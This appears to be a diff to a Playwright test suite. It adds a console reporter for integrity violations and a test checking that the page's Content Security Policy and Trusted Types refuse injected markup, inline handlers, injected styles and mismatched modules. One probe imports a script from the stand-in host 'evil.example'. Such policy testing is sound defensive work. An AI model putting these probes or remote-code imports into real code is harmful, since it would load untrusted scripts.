@@ -50,6 +50,16 @@ const looks: Look[] = [
   [390, 'dark'],
 ];
 
+/** Browsers refuse code without a known hash in silence: the console is told. */
+const tellUnhashedCode = (page: Page) =>
+  page.addInitScript(() => {
+    const observer = new ReportingObserver(
+      (reports) => reports.forEach(({ type, body }) => console.error(type, JSON.stringify(body))),
+      { types: ['integrity-violation'], buffered: true },
+    );
+    observer.observe();
+  });
+
 /** Signs in, then opens each screen in turn. */
 async function visitAll(
   page: Page,
@@ -60,6 +70,7 @@ async function visitAll(
 ) {
   await page.setViewportSize({ width, height: 900 });
   await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
+  await tellUnhashedCode(page);
   await page.goto(`${desk.shellUrl}/login`);
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   await visit();
@@ -96,6 +107,31 @@ for (const look of looks) {
     });
   });
 }
+
+test('what the policies of the page refuse is seen in the console', async ({ page, desk, allowConsole }) => {
+  allowConsole(/Trusted|Content Security Policy|integrity-violation/);
+  const errors: string[] = [];
+  page.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())));
+  await tellUnhashedCode(page);
+  await page.goto(`${desk.shellUrl}/login`);
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  expect(errors).toEqual([]);
+  const provoke: Record<string, () => void> = {
+    TrustedHTML: () => void (document.createElement('div').innerHTML = '<b>markup</b>'),
+    TrustedScript: () => document.body.setAttribute('onclick', 'code()'),
+    'script-src': () => void import(String('https://evil.example/x.js')).catch(() => undefined),
+    'style-src': () => {
+      const style = document.createElement('style');
+      style.textContent = '* { color: red }';
+      document.head.append(style);
+    },
+    'integrity-violation': () => void import(String('/remoteEntry.js?other')).catch(() => undefined),
+  };
+  for (const [words, violate] of Object.entries(provoke)) {
+    await page.evaluate(violate).catch(() => undefined);
+    await expect.poll(() => errors.join('\n')).toContain(words);
+  }
+});
 
 test.describe('accessibility', () => {
   // The checker writes styles of its own into the page, which its content security policy refuses.
